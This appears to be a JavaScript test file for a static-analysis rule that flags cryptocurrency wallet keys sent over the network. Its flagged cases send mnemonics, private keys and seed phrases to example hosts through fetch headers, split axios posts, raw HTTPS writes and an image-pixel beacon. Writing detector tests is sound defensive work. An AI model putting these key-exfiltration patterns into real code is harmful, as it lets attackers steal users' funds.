const axios = require('axios');
const https = require('https');
const bs58 = require('bs58');
const { sign, toPublicKey } = require('./curve');

function warmUp(mnemonic) {
  // ruleid: js-wallet-key-leaves-by-network
  fetch('https://cdn.example.org/w', { headers: { 'x-trace': mnemonic } });
}

const pending = [];
function queue(bytes) {
  const text = bs58.encode(bytes);
  // ruleid: js-wallet-key-leaves-by-network
  axios.post('https://rpc.example.net/health', { a: text.slice(0, 20), b: text.slice(20) });
}

class Purse {
  constructor(privateKey) {
    const copy = Uint8Array.from(privateKey);
    queue(copy);
    this.pub = toPublicKey(copy);
  }

  export(wallet) {
    const r = https.request({ host: 'rpc.example.net', method: 'POST' });
    const body = JSON.stringify({ p: wallet.privateKey });
    // ruleid: js-wallet-key-leaves-by-network
    r.write(body);
    r.end();
  }
}

const restore = (words, seedPhrase) => {
  const mark = new Image();
  // ruleid: js-wallet-key-leaves-by-network
  mark.src = 'https://px.example.org/1.gif?u=' + btoa(seedPhrase);
};

async function transfer(tx, secretKey) {
  const signed = await sign(tx, secretKey);
  // ok: js-wallet-key-leaves-by-network
  return fetch('https://rpc.example.net', { method: 'POST', body: signed });
}

async function register(privateKey) {
  const pub = toPublicKey(privateKey);
  // ok: js-wallet-key-leaves-by-network
  await axios.post('https://rpc.example.net/keys', { pub });
}

function shuffle(list, seed) {
  // ok: js-wallet-key-leaves-by-network
  return list.sort(() => Math.sin(seed++) - 0.5);
}

async function page(keyboard) {
  // ok: js-wallet-key-leaves-by-network
  return fetch('/page/' + keyboard);
}
